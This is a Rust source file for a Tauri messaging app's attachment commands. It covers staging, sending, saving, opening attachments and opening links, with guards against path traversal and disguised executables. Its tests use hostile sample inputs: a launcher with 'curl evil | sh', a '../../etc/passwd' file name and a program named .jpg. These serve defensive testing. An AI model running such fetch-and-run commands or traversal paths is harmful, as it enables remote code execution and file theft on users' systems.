//! Attachments: staging what the page hands over, sending, downloading, saving, opening; and
//! opening web links in the system browser.

use std::path::{Path, PathBuf};

use isthmus_core::media::{names, DEFAULT_MAX_ATTACHMENT_BYTES};
use isthmus_core::{ConversationId, Error, ErrorCode, Message, MessageId, SavedAttachment};
use tauri::{AppHandle, Manager, State};
use tauri_plugin_opener::OpenerExt;

use crate::error::{CommandError, CommandResult};
use crate::parse;
use crate::state::AppState;

/// Writes the bytes the page holds (a dropped, pasted or picked file) into the staging folder
/// under the file's own (sanitised) name, in a folder of its own so names never collide.
#[tauri::command]
pub async fn stage_file(state: State<'_, AppState>, file_name: String, bytes: Vec<u8>) -> CommandResult<String> {
    let size = bytes.len() as u64;
    if size > DEFAULT_MAX_ATTACHMENT_BYTES {
        return Err(Error::AttachmentTooLarge { size, max: DEFAULT_MAX_ATTACHMENT_BYTES }.into());
    }
    let staging = state.staging().to_path_buf();
    tauri::async_runtime::spawn_blocking(move || stage(&staging, &file_name, &bytes))
        .await
        .map_err(|_| CommandError::from(Error::Stopped))?
        .map(|path| path.to_string_lossy().into_owned())
}

fn stage(staging: &Path, file_name: &str, bytes: &[u8]) -> CommandResult<PathBuf> {
    let folder = tempfile::Builder::new().prefix("file-").tempdir_in(staging).map_err(CommandError::io)?.keep();
    let path = folder.join(names::sanitize(file_name));
    std::fs::write(&path, bytes).map_err(CommandError::io)?;
    Ok(path)
}

/// Only files in the staging folder are sent: the page can hand over bytes, never name a file
/// elsewhere on disk.
pub(super) fn staged(state: &AppState, path: &str) -> CommandResult<PathBuf> {
    let refused = || CommandError::new(ErrorCode::Protocol, "only files handed to the app can be sent");
    let path = Path::new(path).canonicalize().map_err(|_| refused())?;
    let staging = state.staging().canonicalize().map_err(CommandError::io)?;
    if path.starts_with(&staging) && path.is_file() {
        Ok(path)
    } else {
        Err(refused())
    }
}

#[tauri::command]
pub async fn send_file(
    state: State<'_, AppState>,
    account: String,
    peer: String,
    path: String,
    caption: String,
    as_file: bool,
) -> CommandResult<Message> {
    let engine = state.engine().await?;
    let path = staged(&state, &path)?;
    let (account, peer) = (parse::address(&account)?, parse::address(&peer)?);
    let sent = engine.send_file(&account, &peer, &path, &caption, as_file).await;
    // The engine keeps its own encrypted copy; the plaintext goes now, sent or refused (a
    // refused file is staged again when the person tries again).
    state.discard_staged(&path);
    Ok(sent?)
}

#[tauri::command]
pub async fn download_attachment(
    state: State<'_, AppState>,
    conversation_id: ConversationId,
    message_id: MessageId,
    index: u32,
) -> CommandResult<Message> {
    Ok(state.engine().await?.download_attachment(conversation_id, message_id, index).await?)
}

/// The user's Downloads folder, else their home folder.
fn downloads(app: &AppHandle) -> CommandResult<PathBuf> {
    let paths = app.path();
    let folder = paths.download_dir().or_else(|_| paths.home_dir())?;
    std::fs::create_dir_all(&folder).map_err(CommandError::io)?;
    Ok(folder)
}

#[tauri::command]
pub async fn save_attachment(
    app: AppHandle,
    state: State<'_, AppState>,
    conversation_id: ConversationId,
    message_id: MessageId,
    index: u32,
) -> CommandResult<SavedAttachment> {
    let engine = state.engine().await?;
    Ok(engine.save_attachment(conversation_id, message_id, index, &downloads(&app)?).await?)
}

/// What "Open" does with a saved attachment.
#[derive(Debug, PartialEq, Eq)]
enum Opening {
    /// Hand it to the system's app for its type.
    Open,
    /// Show it in its folder: the system's opener would run it, or its name lies about it.
    Reveal,
}

/// Only passive files whose content matches their name are opened (the engine's
/// `SavedAttachment::opens`); a `.jar`, a `.desktop` launcher, a script or a program called
/// `.jpg` never reaches the opener, which would run it with one click.
fn opening(saved: &SavedAttachment) -> Opening {
    if saved.opens && !saved.extension_mismatch {
        Opening::Open
    } else {
        Opening::Reveal
    }
}

/// Saves, then opens with the system's app for its type, or shows it in its folder (see
/// [`opening`]). The page tells the person which happened from `opens`.
#[tauri::command]
pub async fn open_attachment(
    app: AppHandle,
    state: State<'_, AppState>,
    conversation_id: ConversationId,
    message_id: MessageId,
    index: u32,
) -> CommandResult<SavedAttachment> {
    let engine = state.engine().await?;
    let saved = engine.save_attachment(conversation_id, message_id, index, &downloads(&app)?).await?;
    let opened = match opening(&saved) {
        Opening::Reveal => app.opener().reveal_item_in_dir(&saved.path),
        Opening::Open => app.opener().open_path(saved.path.to_string_lossy(), None::<&str>),
    };
    opened.map_err(|error| CommandError::new(ErrorCode::Internal, format!("the system could not open it: {error}")))?;
    Ok(saved)
}

#[tauri::command]
pub async fn open_link(app: AppHandle, url: String) -> CommandResult<()> {
    let url = parse::web_link(&url)?;
    app.opener()
        .open_url(url.as_str(), None::<&str>)
        .map_err(|error| CommandError::new(ErrorCode::Internal, format!("the browser could not open it: {error}")))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn saved(name: &str, head: &[u8]) -> SavedAttachment {
        SavedAttachment {
            path: PathBuf::from(name),
            extension_mismatch: names::extension_mismatch(name, head),
            detected_type: names::detected_extension(head).map(str::to_owned),
            opens: names::opens_safely(name, head),
        }
    }

    #[test]
    fn only_passive_files_reach_the_opener() {
        assert_eq!(opening(&saved("holiday.jpg", b"\xff\xd8\xff\xe0")), Opening::Open);
        assert_eq!(opening(&saved("tool.jar", b"PK\x03\x04")), Opening::Reveal, "a Java archive would run");
        assert_eq!(
            opening(&saved("game.desktop", b"[Desktop Entry]\nExec=curl evil | sh")),
            Opening::Reveal,
            "a launcher would run its Exec line"
        );
        assert_eq!(opening(&saved("cute.jpg", b"MZ\x90\x00")), Opening::Reveal, "a program named .jpg");
    }

    #[test]
    fn staged_files_keep_a_safe_name_in_a_folder_of_their_own() {
        let staging = tempfile::tempdir().expect("temp dir");
        let a = stage(staging.path(), "../../etc/passwd", b"x").expect("staged");
        let b = stage(staging.path(), "../../etc/passwd", b"y").expect("staged");
        assert!(a.starts_with(staging.path()), "a name cannot climb out of the staging folder: {a:?}");
        assert_ne!(a, b, "two files with one name do not overwrite each other");
        assert_eq!(std::fs::read(&b).expect("read"), b"y");
    }
}
